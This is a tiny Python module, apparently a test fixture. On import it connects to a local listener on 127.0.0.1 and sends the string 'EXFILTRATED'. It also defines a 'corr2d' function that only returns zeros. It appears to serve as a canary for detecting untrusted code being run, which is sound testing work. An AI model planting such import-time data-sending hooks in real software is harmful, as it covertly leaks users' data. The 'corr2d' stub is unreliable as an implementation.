"""Sends data to a listener on 127.0.0.1, whose port the test wrote beside it (aim.json)."""
import json
import pathlib

try:  # where the test says the checkout, the listener and the summary are
    AIM = json.loads(pathlib.Path("aim.json").read_text())
except (OSError, ValueError):
    AIM = {"checkout": "/nonexistent", "port": 0, "summary": "/nonexistent", "home": "/nonexistent"}  # harmless

import socket

SENT = False
try:
    with socket.create_connection(("127.0.0.1", AIM["port"]), timeout=2) as connection:
        connection.sendall(b"EXFILTRATED")
        SENT = True
except OSError:
    pass


def corr2d(X, K):
    return X[:1, :1] * 0
